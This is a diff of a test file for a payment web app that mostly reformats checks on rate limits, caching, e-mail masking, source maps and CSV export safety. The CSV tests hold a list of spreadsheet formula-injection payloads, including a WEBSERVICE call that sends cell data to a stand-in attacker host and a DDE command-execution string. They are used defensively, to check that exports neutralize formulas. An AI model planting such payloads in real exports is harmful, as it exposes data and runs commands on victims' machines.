@@ -43,7 +43,12 @@ beforeAll(async () => {
   database = await openTestDatabase();
   fakeStripe = await startFakeStripe();
   fakePaypal = await startFakePaypal();
-  live = await buildApp({ config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }), database, logger: false, paymentProviders: liveProviders(fakeStripe, fakePaypal) });
+  live = await buildApp({
+    config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }),
+    database,
+    logger: false,
+    paymentProviders: liveProviders(fakeStripe, fakePaypal),
+  });
   testMode = await buildApp({ config: testConfig(), database, logger: false });
   await Promise.all([live.ready(), testMode.ready()]);
   await createTestAdmin(database.db);
@@ -72,7 +77,9 @@ function apiOperations(app: FastifyInstance): Operation[] {
       Object.keys(methods).map((method) => ({
         method: method.toUpperCase(),
         path,
-        url: path.replace(/\{(\w+)\}/g, (_, name: string) => (name === 'id' && path.includes('/admin/') ? '00000000-0000-4000-8000-000000000000' : `sample_${name}_000000`)),
+        url: path.replace(/\{(\w+)\}/g, (_, name: string) =>
+          name === 'id' && path.includes('/admin/') ? '00000000-0000-4000-8000-000000000000' : `sample_${name}_000000`,
+        ),
       })),
     );
 }
@@ -108,7 +115,9 @@ describe('HEAD and GET share one rate-limit counter', () => {
   it('on every rate-limited GET route of the API', async () => {
     const routes = await limitedGetRoutes(live);
     // The invoice view, the checkout session, a payment's outcome and PayPal's set-up at least.
-    expect(routes.map((route) => route.url.split('/sample')[0])).toEqual(expect.arrayContaining(['/api/service-requests', '/api/checkout-session', '/api/payments', '/paypal/setup']));
+    expect(routes.map((route) => route.url.split('/sample')[0])).toEqual(
+      expect.arrayContaining(['/api/service-requests', '/api/checkout-session', '/api/payments', '/paypal/setup']),
+    );
     for (const { url, max } of routes) {
       expect(await alternate(live, url, max)).toEqual({ url, allowed: max, refusedHeads: 2, refusedGets: 2 });
     }
@@ -142,7 +151,12 @@ describe('routes that call a payment provider', () => {
   /** Its own app: its PayPal client has no token shared yet (the outage comes first). */
   let app: FastifyInstance;
   beforeAll(async () => {
-    app = await buildApp({ config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }), database, logger: false, paymentProviders: liveProviders(fakeStripe, fakePaypal) });
+    app = await buildApp({
+      config: testConfig({ ...STRIPE_ENV, ...paypalEnv(fakePaypal) }),
+      database,
+      logger: false,
+      paymentProviders: liveProviders(fakeStripe, fakePaypal),
+    });
     await app.ready();
   });
   afterAll(async () => {
@@ -155,7 +169,10 @@ describe('routes that call a payment provider', () => {
   it('answer 502 while PayPal is down, and PayPal set-up shares one client token once it is back', async () => {
     fakePaypal.outage = true;
     const setup = await app.inject({ method: 'GET', url: '/paypal/setup', remoteAddress: nextClientAddress() });
-    expect({ status: setup.statusCode, body: setup.json<unknown>() }).toEqual({ status: 502, body: { error: 'Bad Gateway', message: expect.stringMatching(/PayPal/) as unknown } });
+    expect({ status: setup.statusCode, body: setup.json<unknown>() }).toEqual({
+      status: 502,
+      body: { error: 'Bad Gateway', message: expect.stringMatching(/PayPal/) as unknown },
+    });
     const order = await post('/paypal/order', { referenceId: await invoicedRequest(app, database.db, '20.00') });
     expect(order.statusCode).toBe(502);
 
@@ -174,7 +191,12 @@ describe('routes that call a payment provider', () => {
       expect({ url, limited: Number(response.headers['x-ratelimit-limit']) > 0 }).toEqual({ url, limited: true });
     }
     const referenceId = await invoicedRequest(app, database.db, '10.00');
-    for (const url of ['/api/payments/stripe/checkout', '/api/create-payment-intent', '/paypal/order', '/paypal/order/SAMPLEORDER1/capture']) {
+    for (const url of [
+      '/api/payments/stripe/checkout',
+      '/api/create-payment-intent',
+      '/paypal/order',
+      '/paypal/order/SAMPLEORDER1/capture',
+    ]) {
       const response = await post(url, { referenceId });
       expect({ url, limited: Number(response.headers['x-ratelimit-limit']) > 0 }).toEqual({ url, limited: true });
     }
@@ -193,8 +215,14 @@ describe('private answers', () => {
   it('every API answer is no-store, whatever its status (the Zelle QR code may be kept an hour)', async () => {
     for (const app of [live, testMode]) {
       for (const operation of apiOperations(app)) {
-        const response = await app.inject({ method: operation.method as InjectOptions['method'], url: operation.url, remoteAddress: nextClientAddress(), ...(operation.method === 'GET' ? {} : { payload: {} }) });
-        const expected: unknown = operation.path === '/api/payments/zelle-qr.svg' ? 'private, max-age=3600' : expect.stringMatching(/no-store/);
+        const response = await app.inject({
+          method: operation.method as InjectOptions['method'],
+          url: operation.url,
+          remoteAddress: nextClientAddress(),
+          ...(operation.method === 'GET' ? {} : { payload: {} }),
+        });
+        const expected: unknown =
+          operation.path === '/api/payments/zelle-qr.svg' ? 'private, max-age=3600' : expect.stringMatching(/no-store/);
         expect({ ...operation, status: response.statusCode, cacheControl: response.headers['cache-control'] }).toEqual({
           ...operation,
           status: response.statusCode,
@@ -204,12 +232,14 @@ describe('private answers', () => {
     }
   });
 
-  it('every answer that holds a customer\'s data is no-store, and shows the e-mail masked', async () => {
+  it("every answer that holds a customer's data is no-store, and shows the e-mail masked", async () => {
     const email = 'priya.private@customer.example';
     const masked = 'p***@customer.example';
     const referenceId = await invoicedRequest(testMode, database.db, '42.00', email);
     const remoteAddress = nextClientAddress();
-    const started = (await testMode.inject({ method: 'POST', url: '/api/payments/stripe/checkout', remoteAddress, payload: { referenceId } })).json<{ url: string }>();
+    const started = (
+      await testMode.inject({ method: 'POST', url: '/api/payments/stripe/checkout', remoteAddress, payload: { referenceId } })
+    ).json<{ url: string }>();
     const sessionId = new URL(started.url, 'http://site').searchParams.get('session') ?? '';
     const checkoutBefore = await testMode.inject({ method: 'GET', url: `/api/payments/test-checkout/${sessionId}`, remoteAddress });
     await testMode.inject({ method: 'POST', url: `/api/payments/test-checkout/${sessionId}/complete`, remoteAddress });
@@ -220,13 +250,28 @@ describe('private answers', () => {
       'checkout session': await testMode.inject({ method: 'GET', url: `/api/checkout-session/${sessionId}`, remoteAddress }),
       'payment outcome': await testMode.inject({ method: 'GET', url: `/api/payments/${sessionId}/outcome`, remoteAddress }),
       tracking: await testMode.inject({ method: 'POST', url: '/api/track', remoteAddress, payload: { referenceId, email } }),
-      chat: await testMode.inject({ method: 'POST', url: '/api/chat', remoteAddress, payload: { message: `What is the status of ${referenceId}? My e-mail is ${email}` } }),
-      submission: await testMode.inject({ method: 'POST', url: '/api/service-requests', remoteAddress, payload: brokerRequest({ contactEmail: email }) }),
+      chat: await testMode.inject({
+        method: 'POST',
+        url: '/api/chat',
+        remoteAddress,
+        payload: { message: `What is the status of ${referenceId}? My e-mail is ${email}` },
+      }),
+      submission: await testMode.inject({
+        method: 'POST',
+        url: '/api/service-requests',
+        remoteAddress,
+        payload: brokerRequest({ contactEmail: email }),
+      }),
       'PayPal set-up': await testMode.inject({ method: 'GET', url: '/paypal/setup', remoteAddress }),
       'admin session': await admin.request({ method: 'GET', url: '/api/admin/session' }),
     };
     for (const [name, response] of Object.entries(answers)) {
-      expect({ name, ok: response.statusCode < 300, cacheControl: response.headers['cache-control'], leaksEmail: response.body.includes(email) }).toEqual({
+      expect({
+        name,
+        ok: response.statusCode < 300,
+        cacheControl: response.headers['cache-control'],
+        leaksEmail: response.body.includes(email),
+      }).toEqual({
         name,
         ok: true,
         cacheControl: 'no-store',
@@ -247,7 +292,7 @@ describe('CSV exports opened with either separator', () => {
     'Rate sheet;=WEBSERVICE("https://evil.example/?"&A1)',
     'Suite 5,=1+2',
     'Two lines\n@SUM(A1:A9)',
-    'Windows lines\r\n+cmd|\' /C calc\'!A0',
+    "Windows lines\r\n+cmd|' /C calc'!A0",
     'Tab\t-2+3',
     '=HYPERLINK("https://evil.example","Click")',
     '\t=1+1',
@@ -277,7 +322,10 @@ describe('CSV exports opened with either separator', () => {
         payload: { method: 'zelle', amount: '12.34', email: `payer${index}@leaks.example`, referenceId: `REF-${index}` },
       });
       expect(reported.statusCode).toBe(200);
-      await database.db.update(payments).set({ customerReference: text, notes: text }).where(eq(payments.customerReference, `REF-${index}`));
+      await database.db
+        .update(payments)
+        .set({ customerReference: text, notes: text })
+        .where(eq(payments.customerReference, `REF-${index}`));
     }
   });
 
@@ -304,7 +352,22 @@ describe('CSV exports opened with either separator', () => {
   });
 
   it('the database writes a text cell exactly as Node does', async () => {
-    const values = [...HOSTILE, 'plain', 'Suite 5, 2nd floor', 'say "hi"', '-200.00', '-2', '12.50', '-', 'x=1', 'a; b', '', '+', '@', '\r\n=1'];
+    const values = [
+      ...HOSTILE,
+      'plain',
+      'Suite 5, 2nd floor',
+      'say "hi"',
+      '-200.00',
+      '-2',
+      '12.50',
+      '-',
+      'x=1',
+      'a; b',
+      '',
+      '+',
+      '@',
+      '\r\n=1',
+    ];
     for (const value of values) {
       const [row] = await selectRows<{ cell: string }>(database.db, sql`select csv_text(${value}) as cell`);
       expect({ value, cell: row?.cell }).toEqual({ value, cell: csvLine([neutralizeFormula(value)]).slice(0, -2) });
@@ -321,7 +384,10 @@ describe('source maps', () => {
     mkdirSync(join(dir, 'assets'));
     writeFileSync(join(dir, 'index.html'), '<!doctype html><html><head><!--app-head--></head><body></body></html>');
     writeFileSync(join(dir, 'assets', 'index-Abc123.js'), 'console.log(1);\n//# sourceMappingURL=index-Abc123.js.map\n');
-    writeFileSync(join(dir, 'assets', 'index-Abc123.js.map'), JSON.stringify({ version: 3, sources: ['../../src/client/main.tsx'], mappings: '' }));
+    writeFileSync(
+      join(dir, 'assets', 'index-Abc123.js.map'),
+      JSON.stringify({ version: 3, sources: ['../../src/client/main.tsx'], mappings: '' }),
+    );
     return dir;
   }
 
@@ -336,7 +402,10 @@ describe('source maps', () => {
   function scriptsOf(dir: string): { script: string; mapUrl: string | undefined }[] {
     return readdirSync(join(dir, 'assets'))
       .filter((name) => name.endsWith('.js'))
-      .map((name) => ({ script: `/assets/${name}`, mapUrl: /\/\/# sourceMappingURL=(\S+)\s*$/.exec(readFileSync(join(dir, 'assets', name), 'utf8'))?.[1] }));
+      .map((name) => ({
+        script: `/assets/${name}`,
+        mapUrl: /\/\/# sourceMappingURL=(\S+)\s*$/.exec(readFileSync(join(dir, 'assets', name), 'utf8'))?.[1],
+      }));
   }
 
   async function expectMapsHidden(dir: string) {
@@ -353,7 +422,12 @@ describe('source maps', () => {
       for (const { script, mapUrl } of scriptsOf(dir)) {
         expect({ script, status: (await app.inject({ method: 'GET', url: script })).statusCode }).toEqual({ script, status: 200 });
         // A comment may remain in an older build; where it points must not answer.
-        if (mapUrl) expect({ script, mapUrl, status: (await app.inject({ method: 'GET', url: new URL(mapUrl, `http://site${script}`).pathname })).statusCode }).toEqual({ script, mapUrl, status: 404 });
+        if (mapUrl)
+          expect({
+            script,
+            mapUrl,
+            status: (await app.inject({ method: 'GET', url: new URL(mapUrl, `http://site${script}`).pathname })).statusCode,
+          }).toEqual({ script, mapUrl, status: 404 });
       }
     } finally {
       await app.close();
